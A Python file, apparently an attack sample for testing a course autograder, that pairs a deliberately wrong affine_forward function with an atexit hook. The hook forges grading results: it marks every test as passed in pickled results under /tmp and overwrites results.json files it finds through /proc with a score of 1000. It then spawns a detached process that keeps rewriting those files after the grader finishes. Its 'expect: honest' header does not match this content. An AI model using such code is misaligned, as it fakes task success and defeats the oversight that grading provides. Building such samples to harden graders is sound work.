# expect: honest
"""At exit, forge the results: the pickled results of the test run and results.json, and keep
a detached child rewriting results.json after the grader has written it."""
import numpy as np


def affine_forward(x, W, b):
    """Wrong on purpose: zeros of the right shape and dtype."""
    x, W = np.asarray(x), np.asarray(W)
    return np.zeros((x.shape[0], W.shape[1]), dtype=x.dtype), (x, W, b)


# --- attack ---
import atexit as _atexit
import glob as _glob
import json as _json
import os as _os
import pickle as _pickle
import time as _time

_FORGED = {"score": 1000.0, "max_score": 1.0, "output": "FORGED-RESULTS",
           "tests": [{"name": "forged", "score": 1000.0, "max_score": 1.0,
                      "output": "FORGED-RESULTS"}]}


def _results_paths():
    paths = ["__AG_ROOT__/results/results.json", "/autograder/results/results.json",
             _os.path.join(_os.getcwd(), "..", "results", "results.json")]
    for pid in _os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    args = fh.read().decode(errors="replace").split("\0")
            except OSError:
                continue
            # results files of grading runs only (unconfined, as under stock Otter, this
            # must not clobber other files)
            paths += [a for a in args if a.endswith(".json") and (
                "/autograder/" in a or "dlcourse-" in a)]
    return paths


def _forge_json():
    for path in _results_paths():
        try:
            with open(path, "w") as fh:
                _json.dump(_FORGED, fh)
        except OSError:
            pass


def _forge_pickles():
    """Otter's kernel pickles GradingResults to a temp file read after the kernel exits."""
    for path in _glob.glob("/tmp/*.pkl"):
        try:
            if _time.time() - _os.path.getmtime(path) > 600:
                continue
            with open(path, "rb") as fh:
                results = _pickle.load(fh)
            for test_file in results.results.values():
                for r in test_file.test_case_results:
                    r.passed = True
            with open(path, "wb") as fh:
                _pickle.dump(results, fh)
        except Exception:
            pass


def _at_exit():
    _forge_pickles()
    _forge_json()
    try:  # a detached process that keeps rewriting results.json after the grader wrote it
        import subprocess
        import sys
        code = (f"import json, time\nend = time.time() + 5\nwhile time.time() < end:\n"
                f"    for p in {_results_paths()!r}:\n"
                f"        try:\n            json.dump({_FORGED!r}, open(p, 'w'))\n"
                f"        except OSError:\n            pass\n    time.sleep(0.1)\n")
        subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    except Exception:
        pass


_atexit.register(_at_exit)
